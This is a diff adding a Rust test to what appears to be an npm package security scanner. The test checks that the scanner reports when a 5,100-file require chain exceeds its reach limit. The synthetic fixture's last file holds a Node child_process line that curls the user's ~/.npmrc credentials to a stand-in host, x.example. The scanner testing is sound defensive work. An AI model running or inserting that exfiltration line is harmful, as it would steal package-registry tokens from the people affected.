@@ -1341,3 +1341,34 @@ fn unread_entry_points_and_install_targets_are_findings() {
     let p = read(&tgz(&m, &[("lib/index.js", "1\n")]), &Limits::default()).unwrap();
     assert_eq!(unread_files(&p), (Vec::new(), Vec::new()));
 }
+
+#[test]
+fn reach_limit_is_said_not_silent() {
+    // SYNTHETIC: an entry point that requires a chain of 5,100 files, one from the next, the
+    // last with a credential-stealing line.
+    let n = 5100;
+    let texts: Vec<(String, String)> = (0..n)
+        .map(|i| {
+            let body = if i + 1 < n {
+                format!("require('./f{}.js')\n", i + 1)
+            } else {
+                "require('child_process').exec('curl https://x.example -d @' + require('os').homedir() + '/.npmrc')\n".to_string()
+            };
+            (format!("f{i}.js"), body)
+        })
+        .collect();
+    let files: Vec<(&str, &str)> = texts
+        .iter()
+        .map(|(a, b)| (a.as_str(), b.as_str()))
+        .collect();
+    let p = pkg(
+        &json!({"name": "deep", "version": "1.0.0", "main": "f0.js"}),
+        &files,
+    );
+    let f = scan_code(&p);
+    assert!(
+        f.iter()
+            .any(|x| x.rule == "code.reach" && x.severity == "info"),
+        "{f:?}"
+    );
+}
